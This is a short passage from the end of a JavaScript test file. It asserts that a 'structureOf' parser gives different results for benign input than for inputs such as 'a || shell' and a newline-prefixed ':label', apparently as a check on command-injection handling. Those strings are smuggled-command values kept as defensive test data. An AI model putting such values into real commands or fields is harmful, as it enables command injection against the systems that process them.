    expect(structureOf('ok', 'ok')).not.toEqual(structureOf('ok', 'a || shell'));
    expect(structureOf('ok', 'ok')).not.toEqual(structureOf('\n:label', 'ok'));
  });
});
